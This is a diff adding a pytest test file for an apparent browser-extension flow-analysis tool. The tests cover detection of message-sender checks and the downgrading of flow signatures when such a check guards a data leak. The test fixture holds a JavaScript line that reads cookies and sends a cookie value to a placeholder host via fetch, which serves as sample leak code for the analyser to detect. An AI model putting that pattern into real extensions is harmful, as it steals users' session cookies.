@@ -1,0 +1,114 @@
+"""Sender-guard detection and the conditional-flow downgrade."""
+
+import pytest
+
+from repro.analysis import analyze
+from repro.browser.chrome import WebExtEnvironment, webext_spec
+from repro.pdg import build_pdg
+from repro.signatures import infer_signature
+from repro.signatures.flowtypes import DEFAULT_LATTICE
+from repro.signatures.signature import FlowEntry
+from repro.webext.guards import downgrade_guarded, find_sender_guards
+from repro.webext.loader import ExtensionBundle
+from repro.webext.lowering import lower_extension
+
+pytestmark = pytest.mark.webext
+
+MANIFEST = (
+    '{"name": "demo", "manifest_version": 3, "permissions": ["cookies"],'
+    ' "background": {"service_worker": "bg.js"},'
+    ' "content_scripts": [{"matches": ["<all_urls>"], "js": ["c.js"]}]}'
+)
+
+LEAK_BODY = (
+    "chrome.cookies.getAll({domain: m.d}, function (cs) {"
+    " fetch('https://sink.example/x?v=' + cs[0].value); });"
+)
+
+
+def analyze_background(bg: str):
+    bundle = ExtensionBundle(
+        name="demo", manifest_text=MANIFEST,
+        files=(("bg.js", bg), ("c.js", "chrome.runtime.sendMessage({d: 1});")),
+    )
+    lowered = lower_extension(bundle)
+    result = analyze(lowered.program, WebExtEnvironment())
+    pdg = build_pdg(result)
+    return result, pdg
+
+
+def handler(guard: str | None) -> str:
+    body = LEAK_BODY if guard is None else f"if ({guard}) {{ {LEAK_BODY} }}"
+    return (
+        "chrome.runtime.onMessage.addListener("
+        f"function (m, sender, r) {{ {body} }});"
+    )
+
+
+class TestGuardDetection:
+    def test_no_guard_no_branches(self):
+        result, pdg = analyze_background(handler(None))
+        assert not find_sender_guards(result, pdg).any
+
+    @pytest.mark.parametrize("guard", [
+        "sender.url === 'https://app.example/'",
+        "sender.origin === 'https://app.example'",
+        "sender.id === 'abcdefgh'",
+        "sender.url.startsWith('https://app.example/')",
+        "sender.url.indexOf('https://app.example') === 0",
+    ])
+    def test_sender_identity_comparisons_are_guards(self, guard):
+        result, pdg = analyze_background(handler(guard))
+        report = find_sender_guards(result, pdg)
+        assert report.any
+        assert report.guarded
+
+    def test_message_property_check_is_not_a_guard(self):
+        result, pdg = analyze_background(handler("m.token === 'sekrit'"))
+        assert not find_sender_guards(result, pdg).any
+
+    def test_reading_sender_without_comparing_is_not_a_guard(self):
+        result, pdg = analyze_background(
+            "chrome.runtime.onMessage.addListener(function (m, sender, r) {"
+            " logged = sender.url;"
+            f" if (m.on) {{ {LEAK_BODY} }} }});"
+        )
+        assert not find_sender_guards(result, pdg).any
+
+
+class TestDowngrade:
+    def infer(self, bg: str):
+        result, pdg = analyze_background(bg)
+        detail = infer_signature(result, pdg, webext_spec())
+        guards = find_sender_guards(result, pdg)
+        return detail, downgrade_guarded(detail, guards)
+
+    def entry_types(self, detail):
+        return {
+            (e.source, e.sink): e.flow_type
+            for e in detail.signature.flows
+        }
+
+    def test_guarded_sink_downgrades_every_flow(self):
+        before, after = self.infer(handler("sender.url === 'https://a.example/'"))
+        for key, flow_type in self.entry_types(after).items():
+            unguarded = self.entry_types(before)[key]
+            assert DEFAULT_LATTICE.stronger_or_equal(unguarded, flow_type)
+        # At least one entry strictly weakened.
+        assert self.entry_types(before) != self.entry_types(after)
+
+    def test_without_guard_detail_is_returned_unchanged(self):
+        before, after = self.infer(handler(None))
+        assert after is before
+
+    def test_downgrade_preserves_provenance_sinks(self):
+        before, after = self.infer(handler("sender.url === 'https://a.example/'"))
+        before_sids = set().union(*before.provenance.values())
+        after_sids = set().union(*after.provenance.values())
+        assert after_sids == before_sids
+
+    def test_downgraded_entries_still_flow_entries(self):
+        _before, after = self.infer(handler("sender.url === 'https://a.example/'"))
+        assert all(
+            isinstance(entry, FlowEntry) for entry in after.signature.flows
+        )
